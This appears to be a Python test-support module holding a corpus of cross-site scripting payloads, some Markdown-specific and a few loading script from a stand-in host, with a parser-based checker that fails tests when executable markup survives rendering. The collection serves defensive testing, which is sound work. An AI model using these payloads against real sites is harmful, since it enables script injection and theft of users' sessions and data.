"""A corpus of classic cross-site scripting payloads, for any test that renders user text.

Import ``XSS_PAYLOADS`` (every payload) or ``MARKDOWN_XSS_PAYLOADS`` (those that only bite through
a Markdown renderer), put them in a Markdown or plain-text field, render the page, email or feed,
and assert with :func:`assert_inert` that nothing executable came out.

Sources: the OWASP XSS filter evasion cheat sheet, PortSwigger's XSS cheat sheet, and the
Markdown-specific vectors that have bitten real renderers (javascript: links, raw HTML passthrough,
reference-style links, autolinks).
"""

import re
from html.parser import HTMLParser

XSS_PAYLOADS: list[str] = [
    "<script>alert('xss-1')</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    '"><script>alert("xss-3")</script>',
    "'><script>alert(String.fromCharCode(88,83,83))</script>",
    "<img src=x onerror=alert('xss-5')>",
    "<img src=\"javascript:alert('xss-6')\">",
    "<IMG SRC=JaVaScRiPt:alert('xss-7')>",
    "<img src=x:alert(alt) onerror=eval(src) alt=xss-8>",
    "<svg onload=alert('xss-9')>",
    "<svg><script>alert('xss-10')</script></svg>",
    "<body onload=alert('xss-11')>",
    "<iframe src=\"javascript:alert('xss-12')\"></iframe>",
    '<iframe srcdoc="<script>alert(13)</script>"></iframe>',
    "<a href=\"javascript:alert('xss-14')\">click me</a>",
    '<a href="JaVaScRiPt:alert(15)">mixed case</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(16)">entities</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxNyk8L3NjcmlwdD4=">data uri</a>',
    "<div style=\"background-image: url(javascript:alert('xss-18'))\">styled</div>",
    "<div style=\"width: expression(alert('xss-19'));\">ie expression</div>",
    "<input onfocus=alert('xss-20') autofocus>",
    "<details open ontoggle=alert('xss-21')>",
    "<video><source onerror=\"alert('xss-22')\"></video>",
    "<audio src=x onerror=alert('xss-23')>",
    "<object data=\"javascript:alert('xss-24')\"></object>",
    '<embed src="data:text/html,<script>alert(25)</script>">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('xss-26')>",
    "<form action=\"javascript:alert('xss-27')\"><button>go</button></form>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(28)">',
    '<base href="https://evil.example/">',
    "<link rel=stylesheet href=https://evil.example/xss.css>",
    "<style>@import 'https://evil.example/xss.css';</style>",
    "<marquee onstart=alert('xss-32')>",
    "<scr<script>ipt>alert('xss-33')</scr</script>ipt>",
    "<<SCRIPT>alert('xss-34');//<</SCRIPT>",
    "<ScRiPt>alert('xss-35')</sCrIpT>",
    "<!--<img src=\"--><img src=x onerror=alert('xss-36')//\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('xss-37')>\">",
    "<template><img src=x onerror=alert('xss-38')></template>",
    '"onmouseover="alert(39)"',
    "javascript:alert('xss-40')",
    "{{ 7*7 }}{% debug %}<script>alert('xss-41')</script>",
    "</textarea><script>alert('xss-42')</script>",
    "</title><script>alert('xss-43')</script>",
    "]]><script>alert('xss-44')</script><![CDATA[",
]

MARKDOWN_XSS_PAYLOADS: list[str] = [
    "[click me](javascript:alert('md-1'))",
    "[click me](JaVaScRiPt:alert('md-2'))",
    "[click me](javascript&#58;alert('md-3'))",
    "[click me](  javascript:alert('md-4')  )",
    "![image](javascript:alert('md-5'))",
    "![image](x\" onerror=\"alert('md-6'))",
    "[ref link][evil]\n\n[evil]: javascript:alert('md-7')",
    "<javascript:alert('md-8')>",
    "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgnbWQtOScpPC9zY3JpcHQ+)",
    "[vbscript](vbscript:msgbox('md-10'))",
    "```html\n<script>alert('md-11')</script>\n```\n\n<script>alert('md-11b')</script>",
    "> quote <img src=x onerror=alert('md-12')>",
    "* item <svg onload=alert('md-13')>",
    "**bold <a href=\"javascript:alert('md-14')\">link</a>**",
]

ALL_XSS_PAYLOADS: list[str] = XSS_PAYLOADS + MARKDOWN_XSS_PAYLOADS

# noscript: its content is raw text to a browser with scripting on, a parser differential that
# has smuggled markup past sanitisers (mutation XSS), so it has no business in rendered output.
FORBIDDEN_ELEMENTS = {
    *("iframe", "frame", "frameset", "object", "embed", "applet", "base"),
    *("svg", "math", "template", "style", "noscript"),
}
URL_ATTRIBUTES = {
    *("href", "src", "action", "formaction", "data", "srcdoc", "xlink:href", "poster", "background"),
}
SCRIPT_SCHEMES = ("javascript:", "vbscript:", "data:")


class InertnessChecker(HTMLParser):
    """Parses HTML the way a browser tokenises it and collects whatever could run script."""

    def __init__(self, *, nonce: str | None) -> None:
        super().__init__(convert_charrefs=True)
        self.nonce = nonce
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        attributes = {name.lower(): value or "" for name, value in attrs}
        shown = self.get_starttag_text() or tag
        if tag in FORBIDDEN_ELEMENTS:
            self.problems.append(shown)
        if tag == "script" and (self.nonce is None or attributes.get("nonce") != self.nonce):
            self.problems.append(shown)
        if tag == "meta" and "http-equiv" in attributes:
            self.problems.append(shown)
        if tag == "link" and re.match(r"\s*(?:https?:)?//", attributes.get("href", "")):
            self.problems.append(shown)
        for name, value in attributes.items():
            # Browsers ignore ASCII whitespace and control characters inside a URL's scheme.
            squeezed = re.sub(r"[\x00-\x20]+", "", value).lower()
            event_handler = name.startswith("on")
            script_url = name in URL_ATTRIBUTES and squeezed.startswith(SCRIPT_SCHEMES)
            script_style = name == "style" and re.search(r"(?:url|expression)\(", squeezed)
            if event_handler or script_url or script_style:
                self.problems.append(shown)

    handle_startendtag = handle_starttag


def dangerous_fragments(rendered: str, *, nonce: str | None = None) -> list[str]:
    """The tags in `rendered` (HTML as a browser or mail client gets it) that could run script.

    A page's own ``<script>`` tags are allowed when they carry the response's CSP `nonce`.
    """
    checker = InertnessChecker(nonce=nonce)
    checker.feed(rendered)
    checker.close()
    return checker.problems


def assert_inert(rendered: str, *, nonce: str | None = None) -> None:
    """Fail if `rendered` contains anything executable (see :func:`dangerous_fragments`)."""
    found = dangerous_fragments(rendered, nonce=nonce)
    assert not found, f"executable markup survived rendering: {found[:5]}"
